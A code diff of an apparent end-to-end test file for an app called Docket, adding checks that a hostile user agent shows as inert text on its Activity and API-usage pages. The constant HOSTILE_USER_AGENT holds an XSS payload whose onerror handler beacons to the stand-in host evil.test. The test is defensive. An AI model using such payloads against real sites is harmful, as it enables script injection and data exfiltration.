@@ -13,8 +13,8 @@ import { seedSession, SESSION_COOKIE, stackInfo, type Persona } from "./support/
  * Sent as the user agent of a Compliance API call made with another key: the feed then records it in
  * the call's `compliance_api_accessed` activity, which the Activity page shows.
  */
-/** The simulator's read-only key (design.md): not Docket's, as a leaked or second integration's key would be. */
-const OTHER_KEY = "sk-ant-api01-simulator-readonly";
+/** The simulator's Admin API key (design.md): not one of Docket's, as another integration's key would be. */
+const OTHER_KEY = "sk-ant-admin01-simulator";
 const HOSTILE_USER_AGENT = `<img src=x onerror="window.__xss=1;navigator.sendBeacon('https://evil.test/ua')">`;
 
 /** Typed by an auditor into the audit filter: the audit log then records it among a row's parameters. */
@@ -104,18 +104,33 @@ const HOSTILE_PAGES: HostilePage[] = [
   {
     title: "the Activity Feed, after a Compliance API call with a hostile user agent, its JSON open",
     persona: "auditor",
-    prepare: async () => {
-      const response = await fetch(`${stackInfo().apiBaseUrl}/v1/compliance/activities?limit=1`, {
-        headers: { "x-api-key": OTHER_KEY, "user-agent": HOSTILE_USER_AGENT },
-      });
-      expect(response.status).toBe(200);
-    },
+    prepare: callWithHostileUserAgent,
     path: () => `/activity?types=compliance_api_accessed&from=${new Date(Date.now() - 10 * 60_000).toISOString()}`,
     shows: () => [HOSTILE_USER_AGENT],
     read: async (page, _fixtures, appOrigin) => {
       const row = page.getByRole("region", { name: "Activities" }).locator("tbody tr", { hasText: HOSTILE_USER_AGENT });
       await row.getByText("JSON as sent by the API").click();
       await expect(row.locator("pre")).toContainText(HOSTILE_USER_AGENT.replace(/"/g, '\\"'));
+      expect(await activeContent(page, appOrigin)).toEqual([]);
+      return page.locator("main").innerText();
+    },
+  },
+  {
+    title: "Docket's API use, once the feed holding that call has been read",
+    persona: "auditor",
+    prepare: callWithHostileUserAgent,
+    path: () => "/api-usage",
+    shows: () => [HOSTILE_USER_AGENT],
+    read: async (page, _fixtures, appOrigin) => {
+      await page.getByRole("button", { name: "Read the feed now" }).click();
+      const otherKeys = page.getByRole("region", { name: "Calls by other keys" });
+      await expect
+        .poll(async () => {
+          await page.reload();
+          await expect(page.getByRole("region", { name: "Reconciliation" })).toBeVisible();
+          return otherKeys.getByText(HOSTILE_USER_AGENT, { exact: false }).count();
+        })
+        .toBeGreaterThan(0);
       expect(await activeContent(page, appOrigin)).toEqual([]);
       return page.locator("main").innerText();
     },
@@ -130,6 +145,13 @@ const HOSTILE_PAGES: HostilePage[] = [
 ];
 
 let fixtures: Fixtures;
+
+async function callWithHostileUserAgent(): Promise<void> {
+  const response = await fetch(`${stackInfo().apiBaseUrl}/v1/compliance/activities?limit=1`, {
+    headers: { "x-api-key": OTHER_KEY, "user-agent": HOSTILE_USER_AGENT },
+  });
+  expect(response.status).toBe(200);
+}
 
 test.beforeAll(async () => {
   const response = await fetch(`${stackInfo().apiBaseUrl}/_simulator/fixtures`);
